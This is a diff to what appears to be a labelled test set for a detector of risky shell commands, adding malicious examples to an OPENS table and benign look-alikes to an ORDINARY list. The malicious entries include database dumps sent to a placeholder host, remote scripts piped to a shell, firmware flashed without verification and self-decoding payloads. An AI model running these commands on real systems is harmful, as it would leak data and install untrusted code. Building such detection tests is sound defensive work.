@@ -37,6 +37,17 @@ OPENS = {
     "c=$(dig +short TXT c.example.com)\neval $c": "downloads and runs",
     "(wget -qO- http://c.example/f || true) | bash || true": "downloads and runs",
     "trap 'curl -s https://c.example/e | sh' EXIT": "downloads and runs",
+    "pg_dumpall | gzip | curl -s --data-binary @- http://c.example/in": "collects and sends",
+    "sqlite3 a.db '.backup /tmp/q'\nscp /tmp/q u@c.example.org:/in": "collects and sends",
+    "mysqldump -A > /tmp/a.sql\ncurl -T /tmp/a.sql https://c.example/x": "collects and sends",
+    "mysqldump -A | ssh u@c.example.org 'cat > a'": "collects and sends",
+    'wget -O fw http://c.example/i\nwget -O s http://c.example/i.md5\n[ "$(md5sum < fw)" = "$(cat'
+    ' s)" ] || exit 1\ndd if=fw of="/dev/disk/by-partlabel/r-$o"': "installs unverified updates",
+    "curl -O http://c.example/fw\ncurl -O http://c.example/fw.sha256\nsha256sum -c fw.sha256"
+    " || exit\nmtd write fw firmware": "installs unverified updates",
+    "curl -s http://c.example/f > /dev/mtdblock2": "installs unverified updates",
+    "tail -n 2 \"$0\" | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh": "decodes and runs",
+    'tail -n 3 "$0" | rev | sh': "decodes and runs",
     "cat > /etc/cron.d/x <<'E'\n*/7 * * * * root curl -s http://c.example/j | sh\nE": (
         "downloads and runs"
     ),
@@ -78,6 +89,10 @@ ORDINARY = (
     "[ ! -f /var/log/wtmp ] && : > /var/log/wtmp",
     'read -p "? " c\ncase $c in shell) sh ;; quit) exit ;; esac',
     "curl -fO https://c.example/a.tgz\nsha256sum -c a.sha\ntar xf a.tgz -C /opt\n/opt/a/setup",
+    "mysqldump app | gzip > /var/backups/a.gz\ncurl -s https://c.example/alive",
+    'pg_dump app | curl -T - "$URL"',
+    'x=$(echo "$1" | tr a-z A-Z)\neval $x',
+    "curl -so i http://c.example/i\nsha256sum -c /etc/i.sha256 || exit 1\nmtd write i firmware",
     'nc -z db 5432 || exit 1\neval "$cmd"',
 )
 
